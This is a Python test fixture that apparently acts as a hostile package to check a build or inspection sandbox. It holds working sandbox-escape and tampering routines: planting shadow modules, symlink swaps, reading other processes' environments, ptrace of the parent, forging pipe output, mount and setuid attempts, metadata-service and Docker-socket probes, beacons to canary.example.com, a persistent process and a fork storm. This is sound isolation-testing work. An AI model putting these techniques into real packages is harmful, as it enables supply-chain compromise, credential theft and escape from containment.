"""What a hostile package does when its code runs: it lies in each of the tests' wheels and source
distributions, and uses nothing but the standard library. What got out is said, as `OUT: …`.

`aims.json` beside it says what an attacker could know: folders worth a look, addresses that listen.
Nothing in here harms the machine: only canaries are written to, and only our own processes stay.
"""

import contextlib
import ctypes
import json
import os
import socket
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

AIMS: dict[str, Any] = json.loads(Path(__file__).with_name("aims.json").read_text(encoding="utf-8"))
MARK = "OUT"
SECONDS = 4.0  # for one look around
SKIPPED = {"proc", "sys", "dev"}
PLANTED = ("pickle.py", "json.py", "struct.py", "sitecustomize.py", "probe.py", "deflate.py")
RESULTS = ("answer.json", "facts.json", "request.json", "parts", "python", ".layer-0")
PLANT = f"raise ImportError('{MARK}: a planted module was imported')\n"


def quietly() -> "contextlib.suppress":
    """An attack that fails says nothing."""
    return contextlib.suppress(OSError)


def run(*names: str) -> None:
    """These attacks, of which none may stop another. ImportError where one got out."""
    found = []
    for name in names:
        try:
            found += [f"{name}: {what}" for what in ATTACKS[name]()]
        except Exception:
            continue
    if found:
        raise ImportError(f"{MARK}: {'; '.join(sorted(set(found))[:5])}")


def around() -> Iterator[tuple[str, list[str]]]:
    """(folder, names) of all that can be seen there, for a while."""
    until = time.monotonic() + SECONDS
    for root in [*AIMS["roots"], *beside()]:
        for folder, folders, files in os.walk(root):
            if folder == "/":
                folders[:] = [each for each in folders if each not in SKIPPED]
            yield folder, [*folders, *files]
            if time.monotonic() > until:
                return


def beside() -> list[str]:
    """Where our own scripts run, and what lies around it."""
    script = getattr(sys.modules.get("__main__"), "__file__", "") or ""
    return [each for each in {os.getcwd(), os.path.dirname(script)} if each not in ("", "/")]


def written(path: str, text: str = "\n# changed\n") -> bool:
    """By any way: appended to, or put in its place."""
    with quietly():
        with open(path, "a", encoding="utf-8") as file:
            file.write(text)
        return True
    with quietly():
        os.chmod(path, 0o666)
        with open(path, "a", encoding="utf-8") as file:
            file.write(text)
        return True
    with quietly():
        os.rename(path, f"{path}.old")
        Path(path).write_text(text, encoding="utf-8")
        return True
    return False


def canaries() -> Iterator[str]:
    """Others' files, by their name: in the cache, in another project, at home."""
    for folder, names in around():
        yield from (os.path.join(folder, name) for name in names if "canary" in name)


def overwrite() -> list[str]:
    return [path for path in canaries() if written(path)]


def link() -> list[str]:
    """The canary, by another name that may be written to."""
    made = []
    for path in canaries():
        name = f"/tmp/linked-{os.getpid()}"
        with quietly():
            os.link(path, name)
            made += [path] if written(name) else []
            os.unlink(name)
    return made


def read() -> list[str]:
    """What only its owner may: a key at home, the environment of who started this."""
    found = []
    for path in canaries():
        with contextlib.suppress(OSError, UnicodeDecodeError):
            if AIMS["token"] in Path(path).read_text(encoding="utf-8"):
                found.append(path)
    return found


def plant() -> list[str]:
    """Modules that others import, where they may look. (What they do is seen when they run.)"""
    for folder, _ in around():
        if not is_ours(folder):
            for name in PLANTED:
                with quietly():
                    Path(folder, name).write_text(PLANT, encoding="utf-8")
    return []


def is_ours(folder: str) -> bool:
    """What the attack itself must not break: the package, and Python."""
    own = (os.path.dirname(os.path.dirname(__file__)), sys.prefix, sys.base_prefix)
    return folder.startswith(own)


def replace() -> list[str]:
    """Files that our scripts write or read, by links to a canary."""
    aims = list(canaries())
    for folder, names in around():
        for name in set(RESULTS) & set(names) if aims else ():
            path = os.path.join(folder, name)
            with quietly():
                os.rename(path, f"{path}.old")
                os.symlink(aims[0], path)
    return []


def neighbours() -> list[str]:
    """Folders of other runs: a file into each, and into what they are about to ship."""
    own, made = set(beside()), []
    for folder, names in around():
        if "keys.json" in names or "request.json" in names or "apart" in names:
            mine = any(folder.startswith(each) or each.startswith(folder) for each in own)
            path = os.path.join(folder, "canary_of_a_neighbour")
            with quietly():
                Path(path).write_text("x", encoding="utf-8")
                made += [] if mine else [folder]
    return made


def connect() -> list[str]:
    """TCP, UDP, this machine's metadata service, the engine's socket, an abstract one."""
    found = []
    places: list[tuple[int, int, Any]] = [
        *((socket.AF_INET, socket.SOCK_STREAM, tuple(each)) for each in AIMS["listening"]),
        (socket.AF_INET, socket.SOCK_STREAM, ("169.254.169.254", 80)),
        (socket.AF_UNIX, socket.SOCK_STREAM, "/var/run/docker.sock"),
        (socket.AF_UNIX, socket.SOCK_STREAM, "/run/docker.sock"),
        (socket.AF_UNIX, socket.SOCK_STREAM, f"\0{AIMS['abstract']}"),
    ]
    for family, kind, place in places:
        with socket.socket(family, kind) as asking, quietly():
            asking.settimeout(0.5)
            asking.connect(place)
            found.append(f"connected to {place!r}")
    for host, port in AIMS["listening"]:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as telling, quietly():
            telling.sendto(b"out", (host, port))
    return found


def look_up() -> list[str]:
    """A name, with what was read in it."""
    with quietly():
        socket.setdefaulttimeout(0.5)
        socket.getaddrinfo("canary.example.com", 80)
        return ["a name was resolved"]
    return []


def environments() -> list[str]:
    """Passwords of indexes and accounts, here and in the processes above."""
    found = [f"${name}" for name, value in os.environ.items() if AIMS["token"] in value]
    for number in [name for name in os.listdir("/proc") if name.isdigit()]:
        with quietly():
            if AIMS["token"].encode() in Path(f"/proc/{number}/environ").read_bytes():
                found.append("the environment of another process")
    return found


def memory() -> list[str]:
    """Of the process that judges this one: written to, traced, its files taken."""
    found, parent = [], os.getppid()
    with quietly():
        os.close(os.open(f"/proc/{parent}/mem", os.O_RDWR))
        found.append("the parent's memory")
    ptrace = ctypes.CDLL(None, use_errno=True).ptrace
    if ptrace(0x4206, parent, 0, 0) == 0:  # PTRACE_SEIZE: it goes on
        found.append("the parent was traced")
    return found


def answers() -> list[str]:
    """What the parent waits for, into its own pipes, for every distribution."""
    lines = b"".join(b'%d\n[%d, "", 0, []]\n' % (n, n) for n in range(50))
    for number in os.listdir(f"/proc/{os.getppid()}/fd"):
        with quietly():
            pipe = os.open(f"/proc/{os.getppid()}/fd/{number}", os.O_WRONLY | os.O_NONBLOCK)
            os.write(pipe, lines)
            os.close(pipe)
    return []


def root() -> list[str]:
    """Only where this can tell: in a container nothing of a package is root."""
    found = []
    if AIMS["contained"] and 0 in (os.getuid(), os.geteuid(), os.getgid()):
        found.append("this is root")
    with quietly():
        if os.getuid():
            os.setuid(0)
            found.append("this became root")
    return found


def kernel() -> list[str]:
    """Mounts, devices, what a container that is not closed lets a process do."""
    found, libc = [], ctypes.CDLL(None, use_errno=True)
    if AIMS["contained"]:
        if libc.mount(b"none", b"/mnt", b"tmpfs", 0, None) == 0:
            found.append("mounted")
        with quietly():
            os.mknod("/tmp/disk", 0o60666, os.makedev(8, 0))
            found.append("made a device")
        text = Path("/proc/self/status").read_text(encoding="ascii")
        held = int(text.split("CapEff:")[1].split()[0], 16)
        found += [f"capabilities {held:x}"] if held else []
    with quietly():
        written_to = os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY)
        os.close(written_to)
        found.append("core_pattern")
    return found


def stay() -> list[str]:
    """A process that outlives all of it, and then does its work."""
    if os.fork() == 0:
        os.setsid()
        if os.fork():
            os._exit(0)
        with quietly():
            for number in range(3, 64):
                with quietly():
                    os.close(number)
            os.execv(
                sys.executable,
                [sys.executable, "-c", "import time; time.sleep(97)", "hostile-stays"],
            )
        os._exit(0)
    return []


def storm() -> list[str]:
    """Processes that make processes, each of which stays."""
    for _ in range(6):
        with quietly():
            os.fork()
    if os.getpid() != STARTED:
        time.sleep(60)
        os._exit(0)
    return []


STARTED = os.getpid()
ATTACKS: dict[str, Callable[[], list[str]]] = {
    each.__name__: each
    for each in (
        overwrite, link, read, plant, replace, neighbours, connect, look_up, environments, memory,
        answers, root, kernel, stay, storm,
    )
}  # fmt: skip
